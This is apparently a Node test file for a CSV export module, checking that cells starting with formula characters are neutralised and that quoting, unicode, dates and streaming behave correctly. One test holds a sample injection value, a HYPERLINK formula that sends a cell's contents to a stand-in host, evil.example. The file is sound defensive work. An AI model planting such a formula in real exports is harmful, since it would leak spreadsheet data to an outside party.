import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvStream, csvText } from './csv.ts';

const columns = ['name', 'days'] as const;
const one = async (name: string, days: number | string = 0) => csvText([{ name, days }], { columns });
/** The cells of the first data row, as a spreadsheet's CSV reader sees them. */
const cells = async (name: string, days: number | string = 0) => (parse(await one(name, days)) as string[][])[1]!;

describe('the CSV writer', () => {
  test('each of the six leading characters is neutralised with an apostrophe', async () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${lead}1+1`;
      assert.equal((await cells(value))[0], `'${value}`, JSON.stringify(value));
    }
  });

  test('a working formula is written as text, whole', async () => {
    const name = '=HYPERLINK("http://evil.example/?id="&A2,"Open record")';
    const text = await one(name);
    assert.equal(text.split('\n')[1], `"'=HYPERLINK(""http://evil.example/?id=""&A2,""Open record"")",0`);
    assert.equal((await cells(name))[0], `'${name}`);
  });

  test('the full-width forms of = + - @ are neutralised too', async () => {
    for (const lead of ['\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) assert.equal((await cells(`${lead}SUM(A1)`))[0], `'${lead}SUM(A1)`);
  });

  test('numbers stay numbers: a negative count is written as -3, but text that looks like one is neutralised', async () => {
    assert.equal((await one('Sam', -3)).split('\n')[1], 'Sam,-3');
    assert.equal((await cells('Sam', '-3'))[1], "'-3");
  });

  test('text that only contains the characters later is left as it is', async () => {
    for (const value of ['Sam O’Neil-Smith', 'a=b', 'jo@example.org', '2+2', 'Jo Bloggs']) assert.equal((await cells(value))[0], value);
  });

  test('quotes, commas and new lines are quoted and come back unchanged', async () => {
    for (const value of ['Say "hello"', 'Smith, Jo', 'one\ntwo', 'one\r\ntwo', '"', ',']) {
      assert.equal((await cells(value))[0], value, JSON.stringify(value));
    }
    assert.equal((await one('Smith, Jo')).split('\n')[1], '"Smith, Jo",0');
  });

  test('unicode is written as UTF-8 and read back unchanged', async () => {
    for (const value of ['Zoë Ní Bhriain', 'Łukasz Żółć', 'محمد', '\u202Eevil\u202C', '👩🏽‍👧 family', '中文']) {
      assert.equal((await cells(value))[0], value);
    }
  });

  test('a header row names the columns; empty and missing cells are empty; dates are ISO instants', async () => {
    const text = await csvText([{ name: null, days: undefined }, { name: new Date('2026-11-23T09:00:00Z'), days: '' }], { columns });
    assert.equal(text, 'name,days\n,\n2026-11-23T09:00:00.000Z,\n');
  });

  test('rows are written as they come: the first is out before the next is read', async () => {
    let open!: () => void;
    const gate = new Promise<void>((resolve) => (open = resolve));
    async function* rows() {
      yield { name: 'first', days: 1 };
      await gate;
      yield { name: 'second', days: 2 };
    }
    let text = '';
    for await (const chunk of csvStream(rows(), { columns })) {
      text += String(chunk);
      if (text.includes('first,1')) open();
    }
    assert.equal(text, 'name,days\nfirst,1\nsecond,2\n');
  });

  test('a failure part-way ends the stream with that error', async () => {
    async function* rows() {
      yield { name: 'first', days: 1 };
      throw new Error('database went away');
    }
    await assert.rejects(async () => {
      for await (const chunk of csvStream(rows(), { columns })) void chunk;
    }, /database went away/);
  });
});
